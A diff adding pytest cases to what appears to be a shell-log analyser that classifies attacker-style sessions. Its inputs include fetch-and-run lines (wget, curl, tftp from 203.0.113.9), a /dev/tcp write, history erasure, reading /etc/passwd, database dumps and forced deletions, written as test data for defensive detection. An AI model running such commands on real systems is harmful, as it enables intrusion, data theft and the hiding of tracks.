@@ -39,6 +39,23 @@ def told(lines: list[str], number: int = 0, **how: Any) -> dict[str, Any]:
 
 
 @pytest.mark.parametrize(
+    ("lines", "paths"),
+    [
+        (["cd /opt", "wget http://203.0.113.9/a.sh"], ["/opt/a.sh"]),
+        (["curl http://203.0.113.9/a > /tmp/k"], ["/tmp/k"]),
+        (["for f in a b; do tftp -g -r $f 203.0.113.9; done"], ["/root/a"]),
+        (["curl http://203.0.113.9/a"], None),
+        (["wget -qO- http://203.0.113.9/a"], None),
+    ],
+)
+def test_where_a_fetched_file_lies_is_told_unless_it_is_only_shown(
+    lines: list[str], paths: list[str] | None
+) -> None:
+    assert told(lines).get("fetch.path") == paths
+    assert "fetch.source" in told(lines)
+
+
+@pytest.mark.parametrize(
     ("lines", "origins"),
     [
         (["wget http://203.0.113.9/a.sh", "sh a.sh"], ["fetched"]),
@@ -250,3 +267,48 @@ def test_one_long_line_is_no_trouble(text: str) -> None:
     began = time.process_time()
     Script().line(text)
     assert time.process_time() - began < 5.0
+
+
+@pytest.mark.parametrize(
+    ("lines", "idle"),
+    [
+        (["uname -a", "rm -rf /tmp/a"], True),
+        (["sudo rm -rf /tmp/a"], True),
+        (["xyzzy", "rm a"], True),
+        (["rm -rf /tmp/a", "wget http://203.0.113.9/a", "rm b"], None),
+        (["echo a > k", "rm b"], None),
+        (["echo a | passwd", "rm b"], None),
+        (["unset HISTFILE; pkill a", "rm b"], None),
+        (["./x", "rm b"], None),
+        (["cat > k", "shred -u b"], None),
+        (["uname -a", "ls"], None),
+    ],
+)
+def test_a_removal_tells_that_nothing_was_done_before_it(lines: list[str], idle: bool | None) -> None:
+    (facts,) = read_script(lines).facts[-1].values()
+    assert facts.values.get("session.idle") is idle
+
+
+@pytest.mark.parametrize(
+    ("line", "trivial"),
+    [
+        ("echo 77 > /tmp/k", True),
+        ("> /tmp/k", True),
+        ("echo -n ok > /tmp/k", True),
+        ("echo 'admin 54321' > /tmp/k", None),
+        ("echo 7 > /dev/shm/.k", True),
+        ("echo 7 >> /dev/.k", True),
+        ("echo 7 > /dev/null", None),
+        ("echo 7 > /dev/tcp/203.0.113.9/80", None),
+        ("echo 7 > /dev/pts/0", None),
+        (": > /tmp/k", True),
+        ("cat << E > /tmp/k\n1\nE", True),
+        ("./report > /tmp/k", None),
+        ("pg_dump shop > /tmp/k", None),
+        ("cat /etc/passwd > /tmp/k", None),
+        ("echo 77 | sudo tee /tmp/k", None),
+        ("echo 'id; reboot' > /tmp/k", None),
+    ],
+)
+def test_a_file_is_a_probe_only_when_the_line_says_all_of_it(line: str, trivial: bool | None) -> None:
+    assert told([line]).get("write.trivial") is trivial
